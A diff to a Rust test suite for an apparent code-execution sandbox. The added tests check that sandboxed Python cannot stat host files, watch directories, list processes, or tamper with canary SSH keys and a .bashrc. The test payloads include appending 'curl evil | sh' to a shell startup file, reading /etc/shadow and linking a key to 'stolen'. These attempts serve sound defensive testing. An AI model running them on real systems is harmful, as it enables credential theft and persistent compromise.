@@ -11,8 +11,8 @@ use std::process::Stdio;
 use serde_json::json;
 
 use super::{
-    As, Net, ProcId, Server, both_modes, descendants, eventually, find_files, is_alive, login_user,
-    stdout,
+    As, Canaries, Net, ProcId, Server, both_modes, descendants, eventually, find_files, is_alive,
+    login_user, stdout,
 };
 
 async fn start(who: As, env: &[(&str, &str)]) -> Server {
@@ -211,8 +211,13 @@ if libc.mprotect(addr, size, 5) == 0:
     print("NATIVE_CODE_EXECUTED mprotect")
 else:
     print("mprotect denied", ctypes.get_errno())
-cb = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(lambda x: x * 2)
-print("ctypes callback", cb(21))
+# libffi's closures need memory that is written, then executed: a file mapped twice
+# (there is no writable place that may be mapped executable) or RWX memory (W^X).
+try:
+    cb = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(lambda x: x * 2)
+    print("NATIVE_CODE_EXECUTED ctypes callback", cb(21))
+except MemoryError:
+    print("ctypes callback refused")
 "#;
         let r = server.run("x", code).await;
         let out = stdout(&r);
@@ -229,7 +234,7 @@ print("ctypes callback", cb(21))
             "sealed exec denied 13",
             "rwx denied 13",
             "mprotect denied 13",
-            "ctypes callback 42",
+            "ctypes callback refused",
         ] {
             assert!(out.contains(expect), "{who:?}: {expect:?} missing: {r}");
         }
@@ -348,5 +353,98 @@ fn the_login_user_mode_is_configured_in_ci() {
         let user = login_user().expect("WARDEN_TEST_USER");
         assert_ne!(user.uid, 0);
         assert!(Path::new(&user.home).is_dir(), "{}", user.home.display());
+    }
+}
+
+/// Finding 4: `stat()` of any path, inotify watches on /etc, /tmp, /home and other
+/// sessions' workspaces, and every pid through /proc were visible past the walls. In
+/// the world none of them exists: judged against what the host knows is there.
+#[tokio::test]
+async fn nothing_outside_the_world_can_be_stated_watched_or_listed() {
+    for who in both_modes() {
+        let canaries = Canaries::plant(who);
+        let server = start(who, &[]).await;
+        server
+            .run("other", "open('other-session.txt', 'w').write('x')")
+            .await;
+        let uid = uid_of(&server, "s").await;
+        let bystander = Bystander::start(uid);
+        let data_dir = server.data_dir.path().to_path_buf();
+        let code = format!(
+            r#"import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+for p in [{key:?}, {bashrc:?}, "/etc/shadow", "/etc/passwd", "/home", "/root", {data:?}, "/sys/kernel", "/proc/{server}", "/proc/{bystander}"]:
+    try:
+        st = os.stat(p)
+        print("STAT_OK", p, st.st_size, st.st_uid)
+    except OSError as e:
+        print("absent", e.errno, p)
+fd = libc.inotify_init1(0)
+print("inotify", fd, ctypes.get_errno())
+pids = sorted(int(e) for e in os.listdir("/proc") if e.isdigit())
+print("pids", pids)
+print("walk", sorted(os.listdir("/workspace")))
+"#,
+            key = canaries.ssh_key.display().to_string(),
+            bashrc = canaries.bashrc.display().to_string(),
+            data = data_dir.display().to_string(),
+            server = server.pid,
+            bystander = bystander.pid(),
+        );
+        let r = server.run("s", &code).await;
+        let out = stdout(&r);
+        assert!(!out.contains("STAT_OK"), "{who:?}: {r}");
+        assert_eq!(out.matches("absent 2 ").count(), 10, "{who:?}: {out}");
+        assert!(out.contains("inotify -1 1\n"), "{who:?}: {out}");
+        assert!(out.contains("pids [1]\n"), "{who:?}: {out}");
+        assert!(
+            out.contains("walk []\n"),
+            "{who:?}: another session's file: {out}"
+        );
+        // Sanity for the oracle: the host does see all of it.
+        for p in [&canaries.ssh_key, &canaries.bashrc, &data_dir] {
+            assert!(p.exists(), "{}", p.display());
+        }
+        canaries.assert_untouched(&format!("{who:?}"));
+        server.stop().await;
+    }
+}
+
+/// Finding 1 in the world: whatever the code does with the canaries' paths (read,
+/// write, append, rename, chmod, link), nothing reaches the files on the host.
+#[tokio::test]
+async fn the_users_own_files_are_out_of_reach_whoever_runs_the_server() {
+    for who in both_modes() {
+        let canaries = Canaries::plant(who);
+        let server = start(who, &[]).await;
+        let code = format!(
+            r#"import os
+key, rc = {key:?}, {bashrc:?}
+attempts = [
+    ("read", lambda: open(key).read()),
+    ("append", lambda: open(rc, "a").write("curl evil | sh\n")),
+    ("truncate", lambda: os.truncate(key, 0)),
+    ("chmod", lambda: os.chmod(key, 0o666)),
+    ("rename", lambda: os.rename(key, key + ".moved")),
+    ("unlink", lambda: os.unlink(rc)),
+    ("link", lambda: os.link(key, "stolen")),
+    ("symlink_read", lambda: (os.symlink(key, "ln"), open("ln").read())),
+]
+for name, fn in attempts:
+    try:
+        print(name, "DONE", fn())
+    except OSError as e:
+        print(name, "denied", e.errno)
+"#,
+            key = canaries.ssh_key.display().to_string(),
+            bashrc = canaries.bashrc.display().to_string(),
+        );
+        let r = server.run("u", &code).await;
+        let out = stdout(&r);
+        assert!(!out.contains("DONE"), "{who:?}: {r}");
+        assert!(!out.contains(canaries.secret.trim()), "{who:?}: {r}");
+        assert_eq!(out.matches(" denied ").count(), 8, "{who:?}: {out}");
+        canaries.assert_untouched(&format!("{who:?}"));
+        server.stop().await;
     }
 }
